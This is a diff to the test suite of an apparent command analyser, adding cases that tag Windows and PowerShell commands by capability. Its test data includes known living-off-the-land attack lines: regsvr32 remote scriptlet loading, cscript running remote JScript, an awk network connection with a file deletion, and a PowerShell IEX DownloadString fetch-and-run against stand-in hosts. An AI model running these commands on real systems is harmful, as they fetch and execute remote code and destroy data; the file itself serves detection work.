@@ -56,6 +56,8 @@ cipher /w:C:\a => fs.delete C:\a
 net user a b /add => privilege
 type \\srv\share\a.txt => net.outbound srv | fs.read \\srv\share\a.txt
 \\srv\tools\a.exe => net.outbound srv | process.exec \\srv\tools\a.exe
+regsvr32 /s /i:\\srv\a\b.sct scrobj.dll => net.outbound srv | code.native scrobj.dll
+cscript //E:jscript \\srv\a\b.txt => net.outbound srv | code.dynamic
 type C:\a.exe > C:\b.txt:a.exe => code.obfuscated C:\b.txt:a.exe
 cmd < a.txt => code.dynamic
 remote /s a.exe x => process.exec a.exe
@@ -98,6 +100,20 @@ def test_a_file_that_is_fetched_and_then_run_is_fetched_code(script: str) -> Non
     ],
 )
 def test_powershell_runs_what_it_has_fetched(script: str) -> None:
+    found = PowerShellReader().read(script.encode(), Context("x.ps1", Interest()))
+
+    assert ("code.fetched", "h.example") in _of(found)
+
+
+def test_powershell_reads_a_program_of_awk() -> None:
+    script = 'awk \'BEGIN { s = "/inet/tcp/0/h.example/42"; system("rm a") }\''
+    found = PowerShellReader().read(script.encode(), Context("x.ps1", Interest()))
+
+    assert {("net.outbound", "h.example:42"), ("fs.delete", "a")} <= _of(found)
+
+
+def test_powershell_that_is_given_what_was_fetched_runs_fetched_code() -> None:
+    script = "powershell IEX (New-Object Net.WebClient).DownloadString('https://h.example/x')"
     found = PowerShellReader().read(script.encode(), Context("x.ps1", Interest()))
 
     assert ("code.fetched", "h.example") in _of(found)
